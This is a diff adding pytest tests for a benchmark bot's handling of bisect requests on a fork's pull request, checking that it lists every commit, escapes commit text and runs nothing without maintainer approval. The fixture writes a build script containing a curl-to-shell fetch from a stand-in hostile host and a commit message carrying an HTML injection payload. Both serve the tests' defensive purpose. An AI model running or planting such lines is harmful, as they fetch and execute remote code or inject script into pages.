@@ -287,6 +287,69 @@ def test_bisect_on_a_fork_needs_the_full_sha(history: Env, fake: FakeGitHub) -> 
     assert fake.check_runs == {} and run.outputs == {"run": "false"}
 
 
+def fork_history(root: Path, fake: FakeGitHub) -> Env:
+    """A fork's pull request of five commits, the second of which puts a hostile build
+    script in that the third takes out again: the pull request's diff never shows it."""
+    ws = make_history(root, config=CONFIG.replace("workloads:", "build: ./build.sh\nworkloads:"))
+    git(ws.path, "checkout", "-q", "feature")
+    commits = feature_commits(ws)
+    git(ws.path, "checkout", "-q", commits[0])
+    (ws.path / "build.sh").write_text("#!/bin/sh\ncurl http://evil.example/x | sh\n")
+    git(ws.path, "add", "-A")
+    git(ws.path, "commit", "-q", "-m", "tidy the build @alice <img src=x onerror=alert(1)>")
+    git(ws.path, "rm", "-q", "build.sh")
+    git(ws.path, "commit", "-q", "-m", "undo")
+    for sha in commits[1:]:
+        git(ws.path, "cherry-pick", "--allow-empty", sha)
+    head = git(ws.path, "rev-parse", "HEAD")
+    git(ws.path, "branch", "-f", "feature", head)
+    git(ws.path, "checkout", "-q", "main")
+    ws = Workspace(ws.path, ws.base_sha, head)
+    fake.add_pull(9, head_sha=head, base_sha=ws.base_sha, head_ref="feature", base_ref="main",
+                  head_repo_full_name="mallory/Hello-World")
+    return Env(root, fake, ws)
+
+
+def test_a_fork_s_bisect_lists_every_commit_it_would_build_and_runs_nothing(
+        tmp_path: Path, fake: FakeGitHub) -> None:
+    """A maintainer read the diff and named the head; the bisect would also build the
+    commit whose build script the next one took out again. It asks for that range."""
+    env = fork_history(tmp_path, fake)
+    built = feature_commits(env.ws)
+    payload = env.comment_event(f"/bench sha={env.ws.head_sha} bisect only=nap", number=9)
+    run = env.run_in_process("issue_comment", payload)
+    assert run.returncode == 0, run.stderr
+    (reply,) = bot_replies(fake, 9)
+    body = reply["body"]
+    assert all(f"`{sha[:12]}`" in body for sha in built), body  # every commit, by SHA
+    # the subjects are the pull request's text: escaped (no tag, no mention)
+    assert "tidy the build @\u2060alice \\<img src=x onerror=alert(1)\\>" in body
+    again = f"/bench sha={env.ws.head_sha} bisect only=nap from={env.ws.base_sha}"
+    assert again in body and "Nothing was run" in body
+    assert fake.check_runs == {} and bisect_comments(fake, 9) == []
+    assert run.outputs == {"run": "false"}
+    assert reactions(fake, payload["comment"]["id"]) == ["eyes", "confused"]
+
+
+def test_a_fork_s_bisect_runs_the_range_a_maintainer_approved(tmp_path: Path,
+                                                             fake: FakeGitHub) -> None:
+    env = fork_history(tmp_path, fake)
+    wrong = env.comment_event(f"/bench sha={env.ws.head_sha} bisect only=nap "
+                              f"from={env.ws.head_sha}", number=9)
+    refused = env.run_in_process("issue_comment", wrong, BENCHBOT_MODE="gate")
+    assert refused.outputs == {"run": "false"}
+    (reply,) = bot_replies(fake, 9)
+    assert f"`from={env.ws.head_sha}` is not the base" in reply["body"]
+    payload = env.comment_event(f"/bench sha={env.ws.head_sha} bisect only=nap "
+                                f"from={env.ws.base_sha}", number=9)
+    gate = env.run_in_process("issue_comment", payload, BENCHBOT_MODE="gate")
+    assert gate.returncode == 0, gate.stderr
+    assert gate.outputs["run"] == "true"
+    job = json.loads(gate.outputs["job"])
+    assert (job["base"]["sha"], job["head"]["sha"]) == (env.ws.base_sha, env.ws.head_sha)
+    assert job["command"]["base"] == env.ws.base_sha
+
+
 @pytest.mark.parametrize("body, problem", [
     ("/bench bisect", "needs `only=NAME`"),
     ("/bench bisect only=nap,snooze", "follows one workload; `only=` names 2"),
